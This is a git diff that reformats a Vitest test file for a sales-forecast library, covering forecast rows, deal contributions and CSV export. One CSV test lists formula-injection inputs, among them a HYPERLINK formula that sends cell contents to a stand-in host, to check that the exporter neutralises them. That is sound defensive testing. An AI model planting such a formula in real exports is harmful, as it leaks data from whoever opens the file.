@@ -1,9 +1,16 @@
 import { describe, expect, it } from 'vitest';
-import { contributionDelta, contributions, primaryProductLine, type Cell } from '../../shared/forecast/contribution.js';
-import { minorToMajor, toCsv } from '../../shared/exports/csv.js';
 import { monthsBetween } from '../../shared/domain/calendar.js';
-import { MIN_HISTORY_SAMPLE, buildForecast, closeProbability, periodOf, stageProbability, type ForecastContext } from '../../shared/forecast/report.js';
 import { toReportingCurrency } from '../../shared/domain/money.js';
+import { minorToMajor, toCsv } from '../../shared/exports/csv.js';
+import { type Cell, contributionDelta, contributions, primaryProductLine } from '../../shared/forecast/contribution.js';
+import {
+  buildForecast,
+  closeProbability,
+  type ForecastContext,
+  MIN_HISTORY_SAMPLE,
+  periodOf,
+  stageProbability,
+} from '../../shared/forecast/report.js';
 import { defaultProgram } from '../../shared/schemas/setup.js';
 import { stored } from './fixtures.js';
 
@@ -15,8 +22,17 @@ const context = (stats: Record<string, { closed: number; won: number }> = {}): F
   closeStat: (dealerId, stage) => stats[`${dealerId}#${stage}`],
 });
 const cell = (overrides: Partial<Cell>): Cell => ({
-  month: '2031-01', productLine: 'milling', country: 'DE', dealerId: 'd1', stage: 'mid', currency: 'EUR',
-  openCount: 1, pipeline: 10_000, wonCount: 0, won: 0, ...overrides,
+  month: '2031-01',
+  productLine: 'milling',
+  country: 'DE',
+  dealerId: 'd1',
+  stage: 'mid',
+  currency: 'EUR',
+  openCount: 1,
+  pipeline: 10_000,
+  wonCount: 0,
+  won: 0,
+  ...overrides,
 });
 
 describe('weighting', () => {
@@ -56,7 +72,12 @@ describe('currency conversion', () => {
 describe('periods', () => {
   it('lists months across a year end and maps them to quarters', () => {
     expect(monthsBetween('2030-11', '2031-02')).toEqual(['2030-11', '2030-12', '2031-01', '2031-02']);
-    expect(['2031-01', '2031-03', '2031-04', '2031-12'].map((m) => periodOf(m, 'quarter'))).toEqual(['2031-Q1', '2031-Q1', '2031-Q2', '2031-Q4']);
+    expect(['2031-01', '2031-03', '2031-04', '2031-12'].map((m) => periodOf(m, 'quarter'))).toEqual([
+      '2031-Q1',
+      '2031-Q1',
+      '2031-Q2',
+      '2031-Q4',
+    ]);
   });
 });
 
@@ -68,14 +89,22 @@ describe('buildForecast', () => {
       cell({ month: '2031-03', openCount: 0, pipeline: 0, wonCount: 1, won: 8_000, country: 'FR' }),
       cell({ month: '2032-01' }),
     ];
-    const monthly = buildForecast(cells, { from: '2031-01', to: '2031-03', period: 'month', dimensions: [], weighting: 'stage' }, context());
+    const monthly = buildForecast(
+      cells,
+      { from: '2031-01', to: '2031-03', period: 'month', dimensions: [], weighting: 'stage' },
+      context(),
+    );
     expect(monthly.rows).toEqual([
       { period: '2031-01', openCount: 2, pipelineValue: 15_000, weightedValue: 4_000 + 3_500, wonCount: 0, wonValue: 0 },
       { period: '2031-02', openCount: 0, pipelineValue: 0, weightedValue: 0, wonCount: 0, wonValue: 0 },
       { period: '2031-03', openCount: 0, pipelineValue: 0, weightedValue: 0, wonCount: 1, wonValue: 8_000 },
     ]);
     expect(monthly.totals).toEqual({ openCount: 2, pipelineValue: 15_000, weightedValue: 7_500, wonCount: 1, wonValue: 8_000 });
-    const grouped = buildForecast(cells, { from: '2031-01', to: '2031-03', period: 'quarter', dimensions: ['region', 'tier'], weighting: 'stage' }, context());
+    const grouped = buildForecast(
+      cells,
+      { from: '2031-01', to: '2031-03', period: 'quarter', dimensions: ['region', 'tier'], weighting: 'stage' },
+      context(),
+    );
     expect(grouped.rows.map((r) => [r.period, r.region, r.tier, r.pipelineValue, r.wonValue])).toEqual([
       ['2031-Q1', 'dach', 'bronze', 5_000, 0],
       ['2031-Q1', 'dach', 'gold', 10_000, 0],
@@ -84,7 +113,11 @@ describe('buildForecast', () => {
   });
 
   it('leaves out amounts it cannot convert, and says which currencies', () => {
-    const result = buildForecast([cell({ currency: 'GBP' })], { from: '2031-01', to: '2031-01', period: 'month', dimensions: [], weighting: 'stage' }, context());
+    const result = buildForecast(
+      [cell({ currency: 'GBP' })],
+      { from: '2031-01', to: '2031-01', period: 'month', dimensions: [], weighting: 'stage' },
+      context(),
+    );
     expect(result.totals.pipelineValue).toBe(0);
     expect(result.unconvertibleCurrencies).toEqual(['GBP']);
   });
@@ -94,7 +127,11 @@ describe('contributions', () => {
   it('counts an open deal in its close month, a won one in its close-on month, nothing else', () => {
     const open = stored({ status: 'approved', expectedCloseDate: '2031-05-02', forecastLine: 'milling' });
     expect(contributions(open)).toEqual([expect.objectContaining({ month: '2031-05', openCount: 1, pipeline: open.expectedValue.amount })]);
-    const won = { ...open, status: 'won' as const, outcome: { result: 'won' as const, closedOn: '2030-12-24', actualValue: { amount: 9, currency: 'USD' } } };
+    const won = {
+      ...open,
+      status: 'won' as const,
+      outcome: { result: 'won' as const, closedOn: '2030-12-24', actualValue: { amount: 9, currency: 'USD' } },
+    };
     expect(contributions(won)).toEqual([expect.objectContaining({ month: '2030-12', wonCount: 1, won: 9, currency: 'USD' })]);
     expect(contributions({ ...open, status: 'lost' })).toEqual([]);
   });
@@ -104,26 +141,61 @@ describe('contributions', () => {
     const same = contributionDelta(before, { ...before, nextSteps: 'call' });
     expect(same).toEqual([]);
     const moved = contributionDelta(before, { ...before, expectedCloseDate: '2031-06-01' });
-    expect(moved.map((c) => [c.month, c.openCount])).toEqual([['2031-05', -1], ['2031-06', 1]]);
+    expect(moved.map((c) => [c.month, c.openCount])).toEqual([
+      ['2031-05', -1],
+      ['2031-06', 1],
+    ]);
   });
 
   it('attributes a deal to the product line with the most units', () => {
     const lineOf = (sku: string) => ({ A: 'milling', B: 'turning' })[sku];
-    expect(primaryProductLine({ products: [{ sku: 'A', quantity: 1 }, { sku: 'B', quantity: 3 }], productLines: [] }, lineOf)).toBe('turning');
-    expect(primaryProductLine({ products: [{ sku: 'B', quantity: 2 }, { sku: 'A', quantity: 2 }], productLines: [] }, lineOf)).toBe('milling');
+    expect(
+      primaryProductLine(
+        {
+          products: [
+            { sku: 'A', quantity: 1 },
+            { sku: 'B', quantity: 3 },
+          ],
+          productLines: [],
+        },
+        lineOf,
+      ),
+    ).toBe('turning');
+    expect(
+      primaryProductLine(
+        {
+          products: [
+            { sku: 'B', quantity: 2 },
+            { sku: 'A', quantity: 2 },
+          ],
+          productLines: [],
+        },
+        lineOf,
+      ),
+    ).toBe('milling');
   });
 });
 
 describe('CSV', () => {
   it('quotes per RFC 4180, ends lines with CRLF and starts with a BOM', () => {
-    const csv = toCsv([{ key: 'name', header: 'name' }, { key: 'n', header: 'n' }], [{ name: 'Müller, "Söhne"', n: 2 }]);
+    const csv = toCsv(
+      [
+        { key: 'name', header: 'name' },
+        { key: 'n', header: 'n' },
+      ],
+      [{ name: 'Müller, "Söhne"', n: 2 }],
+    );
     expect(csv).toBe('\uFEFFname,n\r\n"Müller, ""Söhne""",2\r\n');
   });
 
   it('neutralises formula cells in text, never in numbers', () => {
     const texts = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\uFF1D1', '=HYPERLINK("http://x.example/?"&A1,"open")'];
     const csv = toCsv(
-      [{ key: 'text', header: 'text' }, { key: 'amount', header: 'amount', decimals: 2 }, { key: 'count', header: 'count' }],
+      [
+        { key: 'text', header: 'text' },
+        { key: 'amount', header: 'amount', decimals: 2 },
+        { key: 'count', header: 'count' },
+      ],
       texts.map((text) => ({ text, amount: -12.5, count: -3 })),
     );
     expect(csv.slice(1).split('\r\n').slice(1, -1)).toEqual([
